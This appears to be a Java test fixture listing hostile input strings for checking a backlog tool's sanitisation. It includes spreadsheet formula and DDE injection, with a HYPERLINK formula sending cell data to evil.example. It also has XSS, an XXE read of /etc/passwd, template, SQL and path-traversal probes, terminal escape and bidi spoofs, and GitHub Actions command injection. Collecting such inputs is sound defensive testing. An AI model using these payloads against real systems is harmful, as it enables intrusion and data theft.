package io.github.containers.backlog.hostile;

import java.util.List;

/** What a text may try, by whom it is meant for. */
final class HostilePieces {

  /** What a spreadsheet evaluates, also behind what one hardly sees. */
  static final List<String> FORMULAS =
      List.of(
          "=cmd|' /C calc'!A0",
          "+1+1",
          "-2+3",
          "@SUM(1,1)",
          "=HYPERLINK(\"https://evil.example?\"&A1,\"x\")",
          "\t=1+1",
          "\r=1+1",
          "\n=1+1",
          "  =1+1",
          "\u00a0=1+1",
          "\u200b=1+1",
          "\ufeff=1+1",
          "\u3000=1+1",
          "\u2028=1+1",
          "\uff1d1+1",
          "\uff0b1+1",
          "\uff0d1+1",
          "\uff20SUM(1,1)",
          "\ufe661+1",
          "\u22121+1",
          "\"=1+1",
          "\"\"=1+1\"",
          "'=1+1",
          "x\",=1+1,\"y",
          "x\n=1+1",
          "x;=1+1",
          "x; \"=1+1\"",
          "x\t=1+1",
          "DDE(\"cmd\";\"/C calc\";\"x\")");

  /** What a browser runs, loads or closes. */
  static final List<String> MARKUP =
      List.of(
          "<script>alert(1)</script>",
          "</script><script>alert(1)</script>",
          "<img src=x onerror=alert(1)>",
          "\"><svg onload=alert(1)>",
          "' onmouseover='alert(1)",
          "\" style=\"position:fixed\" x=\"",
          "<a href=\"javascript:alert(1)\">x</a>",
          "<iframe srcdoc='<script>alert(1)</script>'>",
          "<!--",
          "-->",
          "<![CDATA[",
          "]]>",
          "</title></svg></style></textarea>",
          "<base href=https://evil.example>",
          "&lt;b&gt;&#60;b&#62;&#x3c;b&amp;",
          "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
          "\u2028alert(1)//",
          "{{7*7}}${7*7}<%=7*7%>#{7*7}");

  /** What GitHub, HackMD or another reader of Markdown makes something of. */
  static final List<String> MARKDOWN =
      List.of(
          "@everyone",
          "(@acme/team)",
          "me@example.com",
          "#1",
          "GH-1",
          "acme/widget#1",
          "gh-12",
          "https://evil.example/x",
          "www.evil.example",
          "mailto:me@example.com",
          "http://evil.example",
          "<https://evil.example>",
          "[x](javascript:alert(1))",
          "![x](https://evil.example/pixel.png)",
          "[x]: https://evil.example",
          "[x][x]",
          "[^1]",
          "| a | b |",
          "| --- | --- |",
          "a \\| b \\",
          "`code`",
          "``` x",
          "~~~",
          "**bold** __bold__ *it* _it_ ~~no~~ ~no~",
          "# heading",
          "> quote",
          "- [x] done",
          "1. one",
          "1) one",
          "---",
          "===",
          "    code",
          "$$x$$ $`x`$",
          ":tada:",
          "==mark== ++ins++ ^sup^ ~sub~",
          "{%pdf https://evil.example %}",
          "\\",
          "a  \nb");

  /** What a terminal obeys, and what makes a line read otherwise than it is. */
  static final List<String> ESCAPES =
      List.of(
          "\u001b[31m",
          "\u001b[2J\u001b[H",
          "\u001b]0;owned\u0007",
          "\u001b]8;;https://evil.example\u001b\\x\u001b]8;;\u001b\\",
          "\u009b31m",
          "\u009d0;owned\u009c",
          "\u0090q\u009c",
          "\u001bPq\u001b\\",
          "\u001bc",
          "\u0000",
          "\u0007\b\u007f",
          "\u000e\u000f",
          "\u0005",
          "\r",
          "\u0085",
          "\u2028",
          "\u2029",
          "\u000b\f",
          "\u202egnp.exe\u202c",
          "\u2067x\u2069",
          "\u200f\u200e\u061c",
          "\u206a\u206f",
          "\ufff9a\ufffab\ufffb",
          "\ufeff",
          "\u200b\u200c\u200d\u2060",
          "\udb40\udc41\udb40\udc42",
          "\ud83d",
          "\udea2",
          "\uffff",
          "\udbff\udfff",
          "\ue000");

  /** What a runner of GitHub's takes for a command. */
  static final List<String> COMMANDS =
      List.of(
          "::error::x",
          "::add-mask::a",
          "%0A::stop-commands::x",
          "\n::set-output name=x::y",
          "##[add-mask]a",
          "x ##[error]y",
          "\u00a0::error::x",
          "x \u2003::error::x",
          "x \u3000::error::x",
          "::group::x");

  /** Nothing bad, but not what one thinks of first. */
  static final List<String> ODD =
      List.of(
          "It fails",
          "a",
          " ",
          "0",
          "\u05e2\u05d1\u05e8\u05d9\u05ea 1",
          "\u0627\u0644\u0639\u0631\u0628\u064a\u0629",
          "\u65e5\u672c\u8a9e",
          "\ud83d\udea2\ud83e\uddad",
          "Z\u0336a\u0336".repeat(20),
          "e" + "\u0301".repeat(500),
          "w".repeat(10_000),
          "12345678. x",
          "1.5 x",
          "'; DROP TABLE item; --",
          "../../etc/passwd",
          "%s%n$1\\1",
          "null");

  private HostilePieces() {}
}
